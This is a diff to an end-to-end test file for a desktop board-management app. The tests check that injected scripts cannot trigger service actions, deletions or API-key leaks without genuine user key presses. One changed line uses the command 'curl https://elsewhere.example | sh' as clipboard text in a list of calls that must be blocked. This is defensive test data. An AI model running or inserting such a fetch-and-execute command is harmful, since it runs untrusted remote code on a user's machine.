@@ -120,7 +120,7 @@ test('a script alone changes nothing at the service, exports nothing and sees no
       ['jobs.createBoards', { connectionId, count: 3, label: '', tags: [] }],
       ['previews.open', { connectionId, target, displayName: 'Ada', reason: '', minutes: 10 }],
       ['previews.copyLink', { connectionId, identifier, displayName: 'Ada' }],
-      ['boards.copy', { connectionId, selection, as: 'ids' }],
+      ['app.copy', { text: 'curl https://elsewhere.example | sh' }],
       ['connections.remove', { connectionId, keysMayStay: true }],
       [
         'transfer.export',
@@ -184,12 +184,41 @@ test('stolen presses send a stored key only to addresses that it was entered for
     'at each press',
   );
   // At once, so that the calls fall together.
-  for (const letter of 'abcdef') await window.keyboard.press(letter);
+  for (let count = 0; count < 6; count += 1) await window.keyboard.press('F9');
   await answersIn(window);
   await window.keyboard.press('F5');
   await callMain(window, 'boards.view', { connectionId, boardId: 'board-7' });
   expect(heard.filter((header) => header.includes(practice.apiKey))).toEqual([]);
   await new Promise((resolve) => void server.close(resolve));
+});
+
+test('typing, Tab, arrows and modifiers give a script no press', async ({ easel, practice }) => {
+  const { window } = easel;
+  await connect(window, entriesFor(practice));
+  await boardsListed(window);
+  const connectionId = await connectionIdIn(window);
+  const ids = await idsOf(practice);
+  const keys = [
+    ...'a text of 44 letters, with UPPER CASE and 123'.split(''),
+    'Backspace',
+    'Delete',
+    'Tab',
+    'ArrowDown',
+  ];
+  const others = ['Shift', 'Control', 'Alt', 'ArrowUp', 'Home', 'PageDown', 'Shift+Tab', 'x', 'Escape'];
+  const calls = [...keys, ...others].map(
+    (_key, at) => ['jobs.deleteOne', { connectionId, target: { kind: 'board', id: ids[at] ?? '' } }] as const,
+  );
+  // Uses up what was pressed before.
+  await callMain(window, 'app.copy', { text: 'x' });
+  await window.locator('input[data-find]').focus();
+  await plant(window, calls, 'at each press');
+  for (const key of keys) await window.keyboard.press(key);
+  for (const key of others) await window.keyboard.press(key);
+  const answers = await answersIn(window);
+  expect(answers.map(({ code }) => code).filter((code) => code === 'ok')).toEqual([]);
+  expect(answers.filter(({ code }) => code === 'needs-press').length).toBeGreaterThan(9);
+  await expect(jobsLine(window)).toHaveCount(0);
 });
 
 test('no delete starts after changes are locked, however many are queued', async ({ easel, practice }) => {
